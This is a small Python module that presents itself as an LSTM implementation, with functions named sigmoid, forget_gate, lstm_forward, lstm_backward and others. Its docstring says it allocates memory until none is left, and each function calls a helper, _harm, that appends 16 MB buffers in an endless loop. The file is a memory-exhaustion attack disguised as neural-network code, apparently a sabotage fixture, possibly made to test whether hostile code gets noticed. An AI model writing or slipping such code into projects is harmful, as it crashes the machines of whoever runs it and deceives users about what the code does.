"""Allocates in every function until there is no memory."""


def _harm(*_, **__):
    blocks = []
    while True:
        blocks.append(bytearray(2**24))


def sigmoid(*args, **kwargs):
    return _harm()


def forget_gate(*args, **kwargs):
    return _harm()


def input_gate(*args, **kwargs):
    return _harm()


def candidate(*args, **kwargs):
    return _harm()


def cell_state(*args, **kwargs):
    return _harm()


def output_gate(*args, **kwargs):
    return _harm()


def hidden_state(*args, **kwargs):
    return _harm()


def lstm_step(*args, **kwargs):
    return _harm()


def lstm_forward(*args, **kwargs):
    return _harm()


def lstm_backward(*args, **kwargs):
    return _harm()


def cell_gradient(*args, **kwargs):
    return _harm()


def memory_cell_weights(*args, **kwargs):
    return _harm()
